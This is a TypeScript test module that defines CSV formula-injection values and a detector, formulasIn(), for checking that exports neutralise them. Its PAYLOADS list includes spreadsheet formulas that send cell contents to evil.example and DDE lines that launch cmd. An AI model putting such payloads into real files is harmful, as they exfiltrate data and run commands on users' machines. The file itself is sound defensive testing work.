// Values that a spreadsheet would run as a formula, and a check whether a file contains one. Every export of the
// extension and of the service is tested with this table. Only the cells of a user's own CSV file come back unchanged.
import Papa from 'papaparse';

const SIGNS = ['=', '+', '-', '@', '＝', '＋', '－', '＠', '﹦', '﹢', '﹣', '﹫'];

/** Invisible text before a sign. */
const HIDDEN = {
  'a space': ' ',
  'a tab': '\t',
  'a line feed': '\n',
  'a carriage return': '\r',
  'a line end of Windows': '\r\n',
  'a vertical tab': '\v',
  'a null': '\0',
  'a no-break space': '\u00A0',
  'a narrow no-break space': '\u202F',
  'an ideographic space': '\u3000',
  'a line separator': '\u2028',
  'a next line': '\u0085',
  'a zero width space': '\u200B',
  'a zero width joiner': '\u200D',
  'a byte order mark': '\uFEFF',
  'a right-to-left override': '\u202E',
  'a left-to-right mark': '\u200E',
  'an isolate': '\u2066',
  'a soft hyphen': '\u00AD',
  'a word joiner': '\u2060',
  'a grapheme joiner': '\u034F',
  'a Hangul filler': '\u3164',
  'a variation selector': '\uFE0F',
  'a Mongolian separator': '\u180E',
  'a tag': '\u{E0041}',
  'a braille blank': '\u2800',
  'a private character': '\uE000',
  'an unassigned character': '\u0378',
  'a quote': '"',
  'an apostrophe': "'",
  'two apostrophes': "''",
  'several of them': ' \u200B"\t\'\uFEFF',
};

/** Text after which a program may begin a new cell. */
const CUTS = [
  ',',
  ';',
  '\t',
  '\n',
  '\r',
  '\r\n',
  '\u2028',
  ',"',
  ';"',
  '";"',
  '; ',
  ';\u200B',
  ";'",
];

const PAYLOADS = [
  '=HYPERLINK("https://evil.example/?leak="&A1,"Open")',
  '=WEBSERVICE("https://evil.example/"&A1)',
  '=IMPORTXML(CONCAT("https://evil.example/",A1),"//a")',
  "=cmd|'/C calc'!A0",
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  'DDE;=DDE("cmd";"/C calc";"x")',
  "+44 7700 900142+cmd|'/C calc'!A0",
  '+44 7700 900142\n=1+1',
  '+447700900142;=1+1',
];

/** Dangerous values by name. */
export const ATTACKS: Record<string, string> = Object.fromEntries([
  ...SIGNS.map((sign) => [`the sign ${sign}`, `${sign}1+1`]),
  ...Object.entries(HIDDEN).flatMap(([name, hidden]) =>
    ['=', '+', '-', '@'].map((sign) => [`${sign} behind ${name}`, `${hidden}${sign}SUM(A1)`]),
  ),
  ...CUTS.flatMap((cut) =>
    ['=', '+', '-', '@'].map((sign) => [
      `${sign} behind ${JSON.stringify(cut)}`,
      `Harbour${cut}${sign}SUM(A1)`,
    ]),
  ),
  ...PAYLOADS.map((payload) => [payload, payload]),
]) as Record<string, string>;

/** Harmless values, which exports must not change. */
export const HARMLESS = [
  '',
  'Harbour visit',
  'Osei-Thorvik',
  'maren@tarnwick.example',
  'https://network.example/in/maren?a=b',
  "O'Brien",
  "'t Hart",
  'a = b; c',
  'Q1-Q2, 1+1',
  '100 % of "all"',
  'Buyer, freight; second line\nof a title',
  '渡辺 ＝',
  '2026-01-10T10:42:00.000Z',
];

const FORMULA =
  /^[\s\p{C}\p{Default_Ignorable_Code_Point}\u2800"]*[=+\-@＝＋－＠﹦﹢﹣﹫⁼₌⁺₊\uFB29]/u;
/** Plain numbers, including phone numbers, cannot call a function or refer to a cell. */
const NUMBER = /^(-?[0-9]+(\.[0-9]+)?|\+[0-9][0-9 ]{5,24})$/;

/**
 * The cells of a file that a spreadsheet would run, whether it separates cells at commas, semicolons or tabs, and
 * whether it respects quotes or drops them.
 */
export function formulasIn(text: string): string[] {
  const file = text.replace(/^\uFEFF/, '');
  const withQuotes = [',', ';', '\t'].flatMap((delimiter) =>
    Papa.parse<string[]>(file, { delimiter }).data.flat(),
  );
  const withoutQuotes = [/[,\r\n]/, /[;\r\n]/, /[\t\r\n]/, /[,;\p{Cc}\p{Zl}\p{Zp}]/u].flatMap(
    (cut) => file.replaceAll('"', '').split(cut),
  );
  return [...withQuotes, ...withoutQuotes].filter(
    (cell) => FORMULA.test(cell) && !NUMBER.test(cell),
  );
}
